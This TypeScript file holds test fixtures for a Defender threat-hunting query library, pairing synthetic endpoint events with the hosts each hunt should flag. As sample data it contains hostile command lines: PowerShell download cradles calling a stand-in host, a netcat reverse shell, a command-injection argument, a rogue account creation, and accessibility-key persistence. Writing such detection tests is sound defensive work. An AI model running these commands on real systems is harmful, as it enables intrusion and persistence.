/** A row of a Defender table: only the columns that matter. */
type Row = Readonly<Record<string, unknown>>;

/** What a hunt must find among a few events, and what it must leave alone. */
export interface HuntCase {
  readonly hunt: string;
  /** The events by table. */
  readonly events: Readonly<Record<string, readonly Row[]>>;
  readonly values?: Readonly<Record<string, unknown>>;
  /** The column to look at, and its values in the rows found, sorted. */
  readonly column: string;
  readonly found: readonly unknown[];
}

const at = (clock: string): string => `2026-11-05T${clock}Z`;
const host = (name: string): Row => ({ DeviceId: `id-${name}`, DeviceName: `${name}.contoso.com` });
const encoded = (script: string): string => Buffer.from(script, "utf16le").toString("base64");
const many = (count: number, row: (index: number) => Row): Row[] => Array.from({ length: count }, (_, index) => row(index));
const command = (device: string, FileName: string, ProcessCommandLine: string, more: Row = {}): Row => ({
  Timestamp: at("10:00:00"), ...host(device), ActionType: "ProcessCreated", FileName, ProcessCommandLine, ...more,
});
const pe = Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0", "latin1"), Buffer.from("This program cannot be run in DOS mode.")]);

/** One case or more for each hunt of the library. */
export const huntCases: readonly HuntCase[] = [
  {
    hunt: "powershell_downloads",
    events: {
      DeviceProcessEvents: [
        command("plain", "powershell.exe", "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://x.test/a')"),
        command("hidden", "pwsh.exe", `pwsh -nop -e ${encoded("iwr https://x.test/b -OutFile c:\\b.exe")}`),
        command("renamed", "notes.exe", "notes -c Start-BitsTransfer http://x.test/c", { ProcessVersionInfoOriginalFileName: "PowerShell.EXE" }),
        command("quiet", "powershell.exe", "powershell -ExecutionPolicy Bypass -File C:\\scripts\\DownloadedReport.ps1"),
        command("other", "cmd.exe", "cmd /c curl http://x.test"),
      ],
    },
    column: "Address",
    found: ["http://x.test/a", "http://x.test/c", "https://x.test/b"],
  },
  {
    hunt: "powershell_encoded_commands",
    events: {
      DeviceProcessEvents: [
        command("a", "powershell.exe", `powershell.exe -EncodedCommand ${encoded("Get-Date; whoami")}`),
        command("b", "powershell.exe", `powershell.exe /enc "${encoded("Write-Host 'é'")}"`),
        command("c", "powershell.exe", "powershell.exe -ep bypass -exec AAAAAAAAAAAAAAAAAAAAAAAA"),
        command("d", "powershell.exe", "powershell.exe -encoding utf8"),
      ],
    },
    column: "DeviceName",
    found: ["a.contoso.com", "b.contoso.com"],
  },
  {
    hunt: "uncommon_powershell",
    values: { host_name: "odd", timestamp: at("10:00:00"), max_devices: 1 },
    events: {
      DeviceEvents: [
        ...["odd", "w1", "w2"].map((name) => ({ Timestamp: at("09:59:00"), ...host(name), ActionType: "PowerShellCommand", AdditionalFields: '{"Command":"Get-Item"}' })),
        { Timestamp: at("10:01:00"), ...host("odd"), ActionType: "PowerShellCommand", AdditionalFields: '{"Command":"Invoke-Mimikatz"}' },
        { Timestamp: at("07:00:00"), ...host("odd"), ActionType: "PowerShellCommand", AdditionalFields: '{"Command":"Get-Rare"}' },
      ],
    },
    column: "Command",
    found: ["Invoke-Mimikatz"],
  },
  {
    hunt: "brute_force",
    events: {
      DeviceLogonEvents: [
        ...many(25, (index) => ({ Timestamp: at(`10:00:${String(index).padStart(2, "0")}`), ...host("hit"), ActionType: "LogonFailed", RemoteIP: "203.0.113.9", RemoteIPType: "Public", AccountName: `u${index}` })),
        { Timestamp: at("10:05:00"), ...host("hit"), ActionType: "LogonSuccess", RemoteIP: "203.0.113.9", RemoteIPType: "Public", AccountName: "u7", LogonType: "RemoteInteractive" },
        ...many(25, () => ({ Timestamp: at("10:00:00"), ...host("inside"), ActionType: "LogonFailed", RemoteIP: "10.1.2.3", RemoteIPType: "Private", AccountName: "u" })),
        { Timestamp: at("10:05:00"), ...host("inside"), ActionType: "LogonSuccess", RemoteIP: "10.1.2.3", RemoteIPType: "Private", AccountName: "u" },
        { Timestamp: at("09:00:00"), ...host("before"), ActionType: "LogonSuccess", RemoteIP: "198.51.100.7", AccountName: "u" },
        ...many(25, () => ({ Timestamp: at("10:00:00"), ...host("before"), ActionType: "LogonFailed", RemoteIP: "198.51.100.7", AccountName: "u" })),
      ],
    },
    column: "RemoteIP",
    found: ["203.0.113.9"],
  },
  {
    hunt: "service_account_powershell",
    events: {
      DeviceProcessEvents: [
        command("network", "powershell.exe", "p", { AccountSid: "S-1-5-20", AccountName: "network service" }),
        command("pool", "powershell.exe", "p", { AccountDomain: "IIS APPPOOL", AccountName: "DefaultAppPool" }),
        command("managed", "powershell.exe", "p", { AccountName: "gmsa-backup$" }),
        command("named", "powershell.exe", "p", { AccountName: "svc_backup" }),
        command("machine", "powershell.exe", "p", { AccountName: "machine$" }),
        command("person", "powershell.exe", "p", { AccountName: "dana", AccountSid: "S-1-5-21-1" }),
        command("system", "powershell.exe", "p", { AccountName: "system", AccountSid: "S-1-5-18", AccountDomain: "nt authority" }),
      ],
    },
    column: "DeviceName",
    found: ["managed.contoso.com", "named.contoso.com", "network.contoso.com", "pool.contoso.com"],
  },
  {
    hunt: "network_scans",
    events: {
      DeviceNetworkEvents: [
        ...many(30, (index) => ({ Timestamp: at("10:01:00"), ...host("scan"), ActionType: "ConnectionFailed", RemoteIP: "10.0.0.5", RemotePort: index + 1, InitiatingProcessFileName: "nmap.exe", InitiatingProcessId: 4 })),
        ...many(30, () => ({ Timestamp: at("10:01:00"), ...host("one-port"), ActionType: "ConnectionSuccess", RemoteIP: "10.0.0.5", RemotePort: 443, InitiatingProcessFileName: "a.exe", InitiatingProcessId: 4 })),
      ],
    },
    column: "Ports",
    found: [30],
  },
  {
    hunt: "user_enumeration",
    events: {
      DeviceProcessEvents: [
        command("a", "net.exe", "net  user /domain", { AccountName: "x" }),
        command("a", "net1.exe", "C:\\Windows\\system32\\net1 user /domain", { AccountName: "x", InitiatingProcessFileName: "net.exe" }),
        command("b", "net.exe", '"C:\\Windows\\System32\\net.exe" localgroup administrators', { AccountName: "x" }),
        command("c", "net.exe", "net user eve P@ss /add"),
        command("d", "net.exe", "net use \\\\srv\\users"),
      ],
    },
    column: "DeviceName",
    found: ["a.contoso.com", "b.contoso.com"],
  },
  {
    hunt: "smb_discovery",
    events: {
      DeviceNetworkEvents: [
        ...many(6, (index) => ({ Timestamp: at("10:01:00"), ...host("many"), ActionType: "ConnectionFailed", RemoteIP: `10.0.0.${index}`, RemotePort: 445, InitiatingProcessFileName: "x.exe" })),
        ...many(6, (index) => ({ Timestamp: at("10:01:00"), ...host("web"), ActionType: "ConnectionSuccess", RemoteIP: `10.0.0.${index}`, RemotePort: 443, InitiatingProcessFileName: "x.exe" })),
      ],
    },
    column: "Hosts",
    found: [6],
  },
  {
    hunt: "b64_pe",
    events: {
      DeviceProcessEvents: [
        command("header", "powershell.exe", `powershell -c "$b='${pe.toString("base64")}'"`),
        command("shifted1", "cmd.exe", `cmd /c echo ${Buffer.concat([Buffer.from("x"), pe]).toString("base64")}`),
        command("shifted2", "cmd.exe", `cmd /c echo ${Buffer.concat([Buffer.from("xy"), pe]).toString("base64")}`),
        command("lower", "cmd.exe", "cmd /c echo tvqqaamaaaa"),
        command("text", "cmd.exe", `cmd /c echo ${Buffer.from("This is only a text that says nothing").toString("base64")}`),
      ],
    },
    column: "DeviceName",
    found: ["header.contoso.com", "shifted1.contoso.com", "shifted2.contoso.com"],
  },
  {
    hunt: "malware_recycle",
    events: {
      DeviceProcessEvents: [
        command("run", "a.exe", "a", { FolderPath: "C:\\$Recycle.Bin\\S-1-5-21\\a.exe" }),
        command("told", "rundll32.exe", "rundll32 C:\\$RECYCLE.BIN\\b.dll,Go", { FolderPath: "C:\\Windows\\System32\\rundll32.exe" }),
        command("fine", "a.exe", "a", { FolderPath: "C:\\Recycling\\a.exe" }),
      ],
    },
    column: "DeviceName",
    found: ["run.contoso.com", "told.contoso.com"],
  },
  {
    hunt: "tor",
    events: {
      DeviceProcessEvents: [command("browser", "firefox.exe", "firefox", { FolderPath: "C:\\Users\\d\\Desktop\\Tor Browser\\Browser\\firefox.exe" }), command("no", "motor.exe", "motor")],
      DeviceNetworkEvents: [
        { Timestamp: at("10:00:00"), ...host("relay"), ActionType: "ConnectionSuccess", RemoteIP: "203.0.113.1", RemotePort: 9001, InitiatingProcessFileName: "TOR.exe" },
        { Timestamp: at("10:00:00"), ...host("no"), ActionType: "ConnectionSuccess", RemoteIP: "203.0.113.1", RemotePort: 443, InitiatingProcessFileName: "a.exe", RemoteUrl: "onion.test" },
      ],
    },
    column: "DeviceName",
    found: ["browser.contoso.com", "relay.contoso.com"],
  },
  {
    hunt: "accessibility_persistence",
    events: {
      DeviceRegistryEvents: [
        { Timestamp: at("10:00:00"), ...host("debugger"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe", RegistryValueName: "Debugger", RegistryValueData: "cmd.exe" },
        { Timestamp: at("10:00:00"), ...host("no"), ActionType: "RegistryValueSet", RegistryKey: "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\app.exe", RegistryValueName: "Debugger", RegistryValueData: "vsjit" },
      ],
      DeviceFileEvents: [
        { Timestamp: at("10:00:00"), ...host("swap"), ActionType: "FileModified", FileName: "utilman.exe", FolderPath: "C:\\Windows\\System32\\utilman.exe", InitiatingProcessFileName: "cmd.exe" },
        { Timestamp: at("10:00:00"), ...host("update"), ActionType: "FileModified", FileName: "utilman.exe", FolderPath: "C:\\Windows\\System32\\utilman.exe", InitiatingProcessFileName: "TiWorker.exe" },
      ],
      DeviceProcessEvents: [
        command("shell", "osk.exe", "osk", { ProcessVersionInfoOriginalFileName: "Cmd.Exe", FolderPath: "C:\\Windows\\System32\\osk.exe" }),
        command("real", "osk.exe", "osk", { ProcessVersionInfoOriginalFileName: "osk.exe" }),
      ],
    },
    column: "Technique",
    found: ["debugger", "file swap", "shell"],
  },
  {
    hunt: "doc_with_link",
    events: {
      DeviceFileEvents: [
        { Timestamp: at("10:00:00"), ...host("a"), ActionType: "FileCreated", FileName: "Bill.docx", FolderPath: "C:\\x\\Content.Outlook\\Bill.docx", InitiatingProcessFileName: "outlook.exe" },
        { Timestamp: at("10:06:00"), ...host("a"), ActionType: "FileCreated", FileName: "bill.iso", FolderPath: "C:\\d\\bill.iso", FileOriginUrl: "https://x.test/bill.iso", InitiatingProcessFileName: "msedge.exe" },
        { Timestamp: at("11:30:00"), ...host("a"), ActionType: "FileCreated", FileName: "late.iso", FolderPath: "C:\\d\\late.iso", FileOriginUrl: "https://x.test/late.iso", InitiatingProcessFileName: "msedge.exe" },
      ],
      DeviceEvents: [{ Timestamp: at("10:05:00"), ...host("a"), ActionType: "BrowserLaunchedToOpenUrl", RemoteUrl: "https://x.test/", InitiatingProcessFileName: "WINWORD.EXE" }],
    },
    column: "DownloadName",
    found: ["bill.iso"],
  },
  {
    hunt: "dropbox_link",
    events: {
      DeviceFileEvents: [
        { Timestamp: at("10:00:00"), ...host("a"), ActionType: "FileCreated", FileName: "a.exe", InitiatingProcessFileName: "chrome.exe", FileOriginUrl: "https://uc1.dl.dropboxusercontent.com/cd/0/a.exe", FileOriginReferrerUrl: "https://forum.test/post" },
        { Timestamp: at("10:00:00"), ...host("a"), ActionType: "FileCreated", FileName: "own.exe", InitiatingProcessFileName: "chrome.exe", FileOriginUrl: "https://uc1.dl.dropboxusercontent.com/cd/0/b.exe", FileOriginReferrerUrl: "https://www.dropbox.com/home" },
        { Timestamp: at("10:00:00"), ...host("a"), ActionType: "FileCreated", FileName: "fake.exe", InitiatingProcessFileName: "chrome.exe", FileOriginUrl: "https://notdropbox.com/b.exe", FileOriginReferrerUrl: "https://forum.test/" },
      ],
    },
    column: "FileName",
    found: ["a.exe"],
  },
  {
    hunt: "email_smartscreen",
    events: {
      DeviceEvents: [
        { Timestamp: at("10:00:00"), ...host("a"), ActionType: "BrowserLaunchedToOpenUrl", RemoteUrl: "https://x.test/", InitiatingProcessFileName: "OUTLOOK.EXE" },
        { Timestamp: at("10:03:00"), ...host("a"), ActionType: "SmartScreenUserOverride", FileName: "a.exe", AdditionalFields: '{"ActivityId":"1"}' },
        { Timestamp: at("10:00:00"), ...host("b"), ActionType: "BrowserLaunchedToOpenUrl", RemoteUrl: "https://x.test/", InitiatingProcessFileName: "OUTLOOK.EXE" },
      ],
      DeviceFileEvents: ["a", "b"].map((name) => ({ Timestamp: at("10:01:00"), ...host(name), ActionType: "FileCreated", FileName: "a.exe", InitiatingProcessFileName: "msedge.exe" })),
    },
    column: "DeviceName",
    found: ["a.contoso.com"],
  },
  {
    hunt: "smartscreen_ignored",
    events: {
      DeviceEvents: ["run", "not-run"].flatMap((name) => [
        { Timestamp: at("10:00:00"), ...host(name), ActionType: "SmartScreenAppWarning", FileName: "a.exe", SHA1: "aa", AdditionalFields: `{"ActivityId":"${name}","Experience":"Untrusted"}` },
        { Timestamp: at("10:00:10"), ...host(name), ActionType: "SmartScreenUserOverride", AdditionalFields: `{"ActivityId":"${name}"}` },
      ]),
      DeviceProcessEvents: [command("run", "a.exe", "a", { SHA1: "AA", Timestamp: at("10:01:00") }), command("not-run", "b.exe", "b", { SHA1: "bb", Timestamp: at("10:01:00") })],
    },
    column: "DeviceName",
    found: ["run.contoso.com"],
  },
  {
    hunt: "av_sites",
    events: {
      DeviceEvents: [{ Timestamp: at("10:00:00"), ...host("a"), ActionType: "AntivirusDetection", SHA1: "bad", AdditionalFields: '{"ThreatName":"Trojan:Win32/X"}' }],
      DeviceFileEvents: [["bad", "https://evil.test/1"], ["missed", "https://EVIL.test/2"], ["clean", "https://good.test/3"]].map(([SHA1, FileOriginUrl]) => ({ Timestamp: at("09:59:00"), ...host("a"), ActionType: "FileCreated", FileName: "f", SHA1, FileOriginUrl })),
    },
    column: "SHA1",
    found: ["missed"],
  },
  {
    hunt: "email_link",
    events: {
      DeviceEvents: ["a", "b"].map((name) => ({ Timestamp: at("10:00:00"), ...host(name), ActionType: "BrowserLaunchedToOpenUrl", RemoteUrl: "https://x.test/", InitiatingProcessFileName: "outlook.exe" })),
      AlertInfo: [{ Timestamp: at("10:10:00"), AlertId: "1", Title: "Malware" }, { Timestamp: at("15:00:00"), AlertId: "2", Title: "Later" }],
      AlertEvidence: [{ Timestamp: at("10:10:00"), AlertId: "1", DeviceId: "id-a" }, { Timestamp: at("15:00:00"), AlertId: "2", DeviceId: "id-b" }],
    },
    column: "Title",
    found: ["Malware"],
  },
  {
    hunt: "cve_2018_1000006l",
    events: {
      DeviceProcessEvents: [
        command("a", "app.exe", '"C:\\app.exe" "myapp://?" --gpu-launcher="cmd.exe /c calc" --x='),
        command("b", "app.exe", '"C:\\app.exe" --type=renderer --no-sandbox myapp://x'),
        command("c", "app.exe", '"C:\\app.exe" "myapp://open/1"'),
      ],
    },
    column: "DeviceName",
    found: ["a.contoso.com"],
  },
  {
    hunt: "cve_2018_4878",
    events: {
      DeviceImageLoadEvents: ["a", "b"].map((name) => ({ Timestamp: at("10:00:00"), ...host(name), ActionType: "ImageLoaded", FileName: "Flash32_28_0_0_137.ocx", InitiatingProcessFileName: "EXCEL.EXE" })),
      DeviceNetworkEvents: [
        { Timestamp: at("10:02:00"), ...host("a"), ActionType: "ConnectionSuccess", RemoteIP: "203.0.113.5", RemoteIPType: "Public", RemotePort: 80, InitiatingProcessFileName: "cmd.exe", InitiatingProcessParentFileName: "excel.exe" },
        { Timestamp: at("10:02:00"), ...host("b"), ActionType: "ConnectionSuccess", RemoteIP: "10.0.0.5", RemoteIPType: "Private", RemotePort: 80, InitiatingProcessFileName: "excel.exe" },
      ],
    },
    column: "DeviceName",
    found: ["a.contoso.com"],
  },
  {
    hunt: "cve_2018_1111",
    events: {
      DeviceProcessEvents: [
        command("a", "bash", "bash -c nc -e /bin/sh 203.0.113.1 4444", { InitiatingProcessCommandLine: "/bin/bash /etc/NetworkManager/dispatcher.d/11-dhclient eth0 up" }),
        command("b", "grep", "grep x", { InitiatingProcessCommandLine: "/bin/bash /etc/NetworkManager/dispatcher.d/11-dhclient eth0 up" }),
        command("c", "nc", "nc -l 1", { InitiatingProcessCommandLine: "bash" }),
      ],
    },
    column: "DeviceName",
    found: ["a.contoso.com"],
  },
];
